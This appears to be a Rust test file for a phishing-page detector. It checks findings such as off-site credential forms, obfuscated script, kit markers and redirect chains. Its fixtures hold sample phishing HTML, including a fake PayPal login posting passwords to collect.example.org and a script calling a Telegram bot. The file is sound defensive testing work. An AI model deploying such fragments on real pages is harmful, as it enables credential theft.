@@ -1,0 +1,121 @@
+//! What is found on pages.
+
+use super::*;
+use proptest::prelude::*;
+
+fn kinds(url: &str, html: &str) -> Vec<FindingKind> {
+    let context = PageContext { url: Some(url), redirects: &[] };
+    let judged = judge(html.as_bytes(), &context, &PageLimits::default());
+    judged.findings.iter().map(|finding| finding.kind).collect()
+}
+
+const LOGIN: &str = "<title>PayPal: Log in</title><h1>PayPal</h1>\
+    <form action='https://collect.example.org/next.php'><input name=email>\
+    <input type=password name=pw></form><img src='https://www.paypalobjects.com/l.svg' alt=PayPal>";
+
+#[test]
+fn a_login_page_that_is_not_the_brands() {
+    let context = PageContext { url: Some("http://secure.example.net/"), redirects: &[] };
+    let judged = judge(LOGIN.as_bytes(), &context, &PageLimits::default());
+    assert!(judged.is_malicious(), "{judged:?}");
+    let said: Vec<String> = judged.findings.iter().map(ToString::to_string).collect();
+    let said = said.join("; ");
+    assert!(said.contains("sends a password or card number to example.org"), "{said}");
+    assert!(said.contains("the title names `paypal`"), "{said}");
+    assert!(judged.findings.windows(2).all(|two| two[0].weight() >= two[1].weight()));
+}
+
+#[test]
+fn the_same_page_at_home_is_fine() {
+    let own = LOGIN.replace("https://collect.example.org/next.php", "/signin");
+    assert_eq!(kinds("https://www.paypal.com/signin", &own), []);
+}
+
+#[test]
+fn without_a_url_nothing_is_held_against_it() {
+    let judged = judge(LOGIN.as_bytes(), &PageContext::default(), &PageLimits::default());
+    assert_eq!(judged.findings, []);
+    assert_eq!(judged.score, 0.0);
+}
+
+#[test]
+fn each_finding_alone() {
+    let at = "https://example.com/";
+    let password = "<form><input type=password></form>";
+    for (html, kind) in [
+        ("<form action=mailto:x@example.org><input type=password>", FindingKind::SecretsMailed),
+        ("<form action=//example.org/s><input name=q></form>", FindingKind::FormElsewhere),
+        ("<form><input type=password><input name=cvv></form>", FindingKind::PasswordAndCard),
+        ("<script>eval(unescape('%61'))</script>", FindingKind::Obfuscated),
+        ("<script>fetch('https://api.telegram.org/bot1/')</script>", FindingKind::Kit),
+        ("<form name=chalbhai></form>", FindingKind::Kit),
+        (
+            "<meta http-equiv=refresh content='0; url=https://example.org/'>",
+            FindingKind::RefreshElsewhere,
+        ),
+        ("<iframe src='data:text/html,x'></iframe>", FindingKind::DataFrame),
+        ("<!-- saved from url=(0020)https://example.org/ -->", FindingKind::Copied),
+    ] {
+        assert_eq!(kinds(at, html), [kind], "{html}");
+    }
+    let dead = format!("{password}{}", "<a href='#'>x</a>".repeat(6));
+    assert_eq!(kinds(at, &dead), [FindingKind::DeadLinks]);
+    let menu = format!("<body oncontextmenu='return false'>{password}");
+    assert_eq!(kinds(at, &menu), [FindingKind::MenuBlocked]);
+    let escapes = format!("<script>x='{}'</script>", "\\x41".repeat(200));
+    assert_eq!(kinds(at, &escapes), [FindingKind::Obfuscated]);
+}
+
+#[test]
+fn no_finding_alone_makes_a_page_malicious() {
+    for kind in [FindingKind::SecretsPosted, FindingKind::Kit, FindingKind::CopiedLogin] {
+        assert!(Finding::new(kind, String::new()).weight() < 0.5);
+    }
+}
+
+#[test]
+fn ordinary_pages_have_no_findings() {
+    let page = "<!doctype html><title>News about Google and Apple</title><h1>News</h1>\
+        <a href=/a>a</a><a href=/b>b</a><script src=/app.js></script>\
+        <form action=/search><input name=q></form><p>Log in to eval your account</p>";
+    assert_eq!(kinds("https://news.example.com/", page), []);
+}
+
+#[test]
+fn chains_of_redirects() {
+    let hops = ["https://a.example/", "https://b.example/", "https://c.example/"];
+    let context = PageContext { url: Some("https://d.example/"), redirects: &hops };
+    let judged = judge(b"", &context, &PageLimits::default());
+    assert_eq!(judged.findings[0].to_string(), "redirects across 3 sites");
+    let hops = ["https://www.example.com/url?q=https://example.net/"];
+    let context = PageContext { url: Some("https://example.net/"), redirects: &hops };
+    let judged = judge(b"", &context, &PageLimits::default());
+    assert_eq!(judged.findings[0].kind, FindingKind::OpenRedirect);
+}
+
+#[test]
+fn large_pages_are_read_up_to_a_limit() {
+    let limits = PageLimits { bytes_max: 100, ..PageLimits::default() };
+    let form = "<form name=chalbhai>";
+    for (front, end, found) in [(0, 200, 1), (200, 0, 1), (100, 100, 0)] {
+        let html = format!("{}{form}{}", " ".repeat(front), " ".repeat(end));
+        let judged = judge(html.as_bytes(), &PageContext::default(), &limits);
+        assert_eq!(judged.findings.len(), found, "{front} {end}");
+    }
+    let many = "<form action=//example.org><input type=password>".repeat(10_000);
+    let context = PageContext { url: Some("https://example.com/"), redirects: &[] };
+    let judged = judge(many.as_bytes(), &context, &PageLimits::default());
+    assert_eq!(judged.findings.len(), 1, "one finding is said once");
+}
+
+proptest! {
+    #[test]
+    fn any_bytes_are_judged(bytes in proptest::collection::vec(any::<u8>(), 0..400)) {
+        fuzz_page(&bytes);
+    }
+
+    #[test]
+    fn any_tags_are_judged(html in "(<[a-z]{1,6}( [a-z]{1,6}=[a-z:/#]{0,9}){0,3}>|[!<>/\"'-]|x){0,40}") {
+        fuzz_page(html.as_bytes());
+    }
+}
